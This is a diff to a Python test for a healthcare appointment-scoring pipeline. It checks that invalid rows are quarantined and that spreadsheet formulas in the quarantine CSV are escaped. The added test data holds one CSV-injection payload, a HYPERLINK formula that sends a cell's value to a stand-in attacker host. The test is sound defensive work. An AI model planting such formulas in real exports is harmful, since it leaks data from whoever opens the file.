@@ -85,6 +85,8 @@ def test_bad_rows_are_quarantined_and_the_exit_code_says_so(
     frame = generate_appointments(2_000, seed=93)
     frame["patient_age"] = frame["patient_age"].astype(object)
     frame.loc[[10, 20], "patient_age"] = -3
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the penetration test's payload
+    frame.loc[20, "appointment_id"] = formula
     data = write_table(frame, tmp_path / "appointments.csv")
     monkeypatch.setenv("MLFLOW_TRACKING_URI", trained_store.settings.tracking_uri)
     monkeypatch.setenv("CAREOPS_DATABASE_URL", f"sqlite:///{tmp_path / 'log.db'}")
@@ -113,7 +115,9 @@ def test_bad_rows_are_quarantined_and_the_exit_code_says_so(
         quarantine["quarantine_reason"].tolist()
         == ["patient_age: Input should be greater than or equal to 0"] * 2
     )
-    assert sorted(quarantine["appointment_id"]) == sorted(frame.loc[[10, 20], "appointment_id"])
+    # The quarantine file is for people: the formula is quoted, the number stays a number.
+    assert sorted(quarantine["appointment_id"]) == sorted([frame.loc[10, "appointment_id"], "'" + formula])
+    assert quarantine["patient_age"].tolist() == ["-3", "-3"]
     # The batch is in the access audit trail: who ran it, and every record it scored.
     (entry,) = [
         s.entry for s in AuditStore(f"sqlite:///{tmp_path / 'log.db'}").entries() if s.entry.action == "score"
